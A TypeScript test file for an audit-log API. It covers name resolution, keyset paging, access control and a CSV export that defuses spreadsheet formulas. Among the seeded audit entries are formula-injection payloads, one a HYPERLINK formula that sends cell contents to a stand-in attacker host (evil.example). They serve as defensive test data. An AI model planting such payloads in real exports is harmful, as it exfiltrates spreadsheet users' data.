import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withWrite } from '../../db/write';
import { type Client, errorOf, makeTestApp, serviceBody, signIn, type TestApp } from '../../test/helpers';

// The audit log shows names, not ids (issue 18, §3), pages by keyset, and exports as CSV.

let t: TestApp;
let admin: Client;
let student: Client;
let serviceId: number;

const T0 = 1_500_000_000;
const entry = (time: number, summary: string, extra: { targetType?: string; targetId?: string } = {}) =>
  withWrite({ ...t.deps, now: () => time }, async (_tx, w) => {
    w.audit(
      { id: null, username: 'cli', ip: '' },
      { action: 'csv.test', targetType: extra.targetType ?? 'x', targetId: extra.targetId ?? null, summary },
    );
  });

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  expect(cell, 'the last record ends with CRLF').toBe('');
  expect(row).toEqual([]);
  return rows;
}

beforeAll(async () => {
  t = await makeTestApp();
  [admin, student] = await Promise.all([signIn(t, 'admin'), signIn(t, 'student')]);
  const res = await admin.post('/api/services', serviceBody('Group sync', 'group_sync'));
  expect(res.status, res.text).toBe(201);
  serviceId = res.body.id;
  await entry(T0 + 1, 'plain');
  await entry(T0 + 2, 'with, a comma and "quotes"\r\nand a line break');
  await entry(T0 + 3, '=HYPERLINK("http://evil.example/?x="&A1,"Click")');
  await entry(T0 + 4, '+1+2');
  await entry(T0 + 5, '-2+3');
  await entry(T0 + 6, '@SUM(A1:A2)');
  await entry(T0 + 7, '\tTabbed');
  await entry(T0 + 8, 'Ünïcödé ✓');
  for (let i = 0; i < 12; i++) await entry(T0 + 100, `same second ${i}`);
});
afterAll(() => t.close());

describe('names, not ids', () => {
  it("resolves the actor's full name and the target's name, as they are now", async () => {
    const res = await admin.get(`/api/audit?action=service.create`);
    expect(res.status).toBe(200);
    const [e] = res.body.items;
    expect(e).toMatchObject({ actorUsername: 'admin', targetType: 'service', targetId: String(serviceId) });
    expect(e.actorName).toBe('Admin User');
    expect(e.targetName).toBe('Group sync');
    expect((await admin.patch(`/api/services/${serviceId}`, { name: 'Group sync 2' })).status).toBe(200);
    const again = (await admin.get(`/api/audit?action=service.create`)).body.items[0];
    expect(again.targetName).toBe('Group sync 2');
  });

  it('names users, tokens and roles; null when the target is gone or has no name', async () => {
    await entry(T0 + 9, 'user target', { targetType: 'user', targetId: String(await t.userId('student')) });
    await entry(T0 + 9, 'gone user', { targetType: 'user', targetId: '99999999' });
    await entry(T0 + 9, 'setting', { targetType: 'config', targetId: 'debug' });
    const items = (await admin.get(`/api/audit?action=csv.test&from=${T0 + 9}&to=${T0 + 9}`)).body.items as {
      summary: string;
      targetName: string | null;
      actorName: string | null;
    }[];
    const by = Object.fromEntries(items.map((i) => [i.summary, i]));
    expect(by['user target']?.targetName).toBe('Sam Student');
    expect(by['gone user']?.targetName).toBeNull();
    expect(by.setting?.targetName).toBeNull();
    expect(by.setting?.actorName).toBeNull();
    const tok = await admin.post('/api/tokens', {
      userId: await t.userId('student'),
      serviceId,
      name: 'Audit named token',
    });
    expect(tok.status, tok.text).toBe(201);
    const created = (await admin.get('/api/audit?action=token.create')).body.items[0];
    expect(created.targetName).toBe('Audit named token');
  });
});

describe('keyset paging of the log', () => {
  it('Next then Previous walk the log, entries of the same second included', async () => {
    const q = `action=csv.test&from=${T0}&to=${T0 + 200}`;
    const whole = (await admin.get(`/api/audit?${q}&perPage=100`)).body.items.map((e: { id: number }) => e.id);
    const ids: number[] = [];
    let page = (await admin.get(`/api/audit?${q}&perPage=5`)).body;
    ids.push(...page.items.map((e: { id: number }) => e.id));
    while (page.next) {
      page = (await admin.get(`/api/audit?${q}&perPage=5&cursor=${page.next}`)).body;
      ids.push(...page.items.map((e: { id: number }) => e.id));
    }
    expect(ids).toEqual(whole);
    const prev = (await admin.get(`/api/audit?${q}&perPage=5&cursor=${page.prev}`)).body;
    expect(prev.items.map((e: { id: number }) => e.id)).toEqual(
      whole.slice(-5 - (whole.length % 5 || 5), -(whole.length % 5 || 5)),
    );
    const tokenCursor = (await admin.get('/api/tokens?perPage=1')).body.next;
    const wrong = await admin.get(`/api/audit?cursor=${tokenCursor ?? 'x'}`);
    expect(wrong.status).toBe(400);
  });
});

describe('GET /api/audit/export', () => {
  it('streams the filtered log as RFC 4180 CSV, formulas defused', async () => {
    const res = await admin.get(`/api/audit/export?action=csv.test&from=${T0 + 1}&to=${T0 + 8}&dir=asc`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
    // Byte order mark first (Response.text() drops it), then the header.
    const raw = await t.app.request(
      `/api/audit/export?action=csv.test`,
      {
        headers: { host: 'localhost', cookie: admin.cookieHeader() },
      },
      { incoming: { socket: { remoteAddress: '10.1.2.3' } } },
    );
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x54]);
    expect(res.text.startsWith('Time (UTC),Username,User,Action,')).toBe(true);
    const rows = parseCsv(res.text);
    expect(rows[0]).toEqual([
      'Time (UTC)',
      'Username',
      'User',
      'Action',
      'Target type',
      'Target id',
      'Target',
      'Summary',
      'IP address',
      'Details',
    ]);
    expect(rows.slice(1).map((r) => r[7])).toEqual([
      'plain',
      'with, a comma and "quotes"\r\nand a line break',
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      "'+1+2",
      "'-2+3",
      "'@SUM(A1:A2)",
      "'\tTabbed",
      'Ünïcödé ✓',
    ]);
    expect(rows[1]).toEqual([
      new Date((T0 + 1) * 1000).toISOString(),
      'cli',
      '',
      'csv.test',
      'x',
      '',
      '',
      'plain',
      '',
      '',
    ]);
    // The exact bytes of a quoted field.
    expect(res.text).toContain(',"with, a comma and ""quotes""\r\nand a line break",');
  });

  it('exports every entry, past one page and one chunk, newest first by default', async () => {
    for (let i = 0; i < 1100; i++) await entry(T0 + 1000 + i, `bulk ${i}`);
    const res = await admin.get(`/api/audit/export?search=bulk&perPage=5`);
    const rows = parseCsv(res.text).slice(1);
    expect(rows).toHaveLength(1100);
    expect(rows[0]?.[7]).toBe('bulk 1099');
    expect(rows.at(-1)?.[7]).toBe('bulk 0');
  });

  it('is for holders of moodle/site:viewreports only, and refuses bad filters', async () => {
    const res = await student.get('/api/audit/export');
    expect(res.status).toBe(403);
    expect(errorOf(res).code).toBe('forbidden');
    expect((await t.client().get('/api/audit/export')).status).toBe(401);
    const bad = await admin.get('/api/audit/export?from=yesterday');
    expect(bad.status).toBe(400);
  });
});
